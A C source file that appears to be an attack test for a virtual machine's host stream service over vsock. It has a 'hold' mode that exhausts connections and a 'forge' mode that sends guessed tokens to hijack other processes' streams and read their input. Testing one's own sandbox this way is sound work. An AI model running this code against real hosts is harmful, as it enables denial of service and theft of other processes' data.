/*
 * Attacks the host's port for the streams of processes, as any program without a filter can. "hold SECONDS"
 * keeps silent connections open. "forge SECONDS" claims the streams of all processes with all knowledge that
 * it can have.
 */
#include <sys/socket.h>
#include <linux/time_types.h>
#include <linux/vm_sockets.h>

#include "message.h"

enum { MOST = 400 };

static int dial(void)
{
	struct sockaddr_vm host = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = STREAM_PORT };
	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);

	if (fd >= 0 && connect(fd, &host, sizeof(host)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static long seconds(void)
{
	struct __kernel_timespec now;

	syscall(__NR_clock_gettime, 1, &now);
	return now.tv_sec;
}

static unsigned hold(long end)
{
	unsigned count = 0;

	/* Connections that the host has reset are useless. */
	for (int fd = 0; seconds() < end; count++) {
		fd = dial();
		if (fd > MOST)
			syscall(__NR_close_range, STDERR_FILENO + 1, ~0u, 0);
	}
	return count;
}

static unsigned forge(long end)
{
	static const char line[] = "FORGED\n";
	char claim[TOKEN_SIZE + sizeof(line) - 1] = { 0 }, stolen[256];
	unsigned count = 0;

	memcpy(claim + TOKEN_SIZE, line, sizeof(line) - 1);
	for (; seconds() < end; count++) {
		uint32_t number = count / MAX_STREAMS % MOST, descriptor = count % MAX_STREAMS;
		int fd = dial();

		memcpy(claim, &number, sizeof(number));
		memcpy(claim + sizeof(number), &descriptor, sizeof(descriptor));
		write(fd, claim, sizeof(claim));
		if (descriptor == STDIN_FILENO && read(fd, stolen, sizeof(stolen)) > 0)
			printf("STOLEN\n");
		close(fd);
	}
	return count;
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;

	long end = seconds() + atoi(argv[2]);

	printf("%u attempts\n", strcmp(argv[1], "hold") == 0 ? hold(end) : forge(end));
	return 0;
}
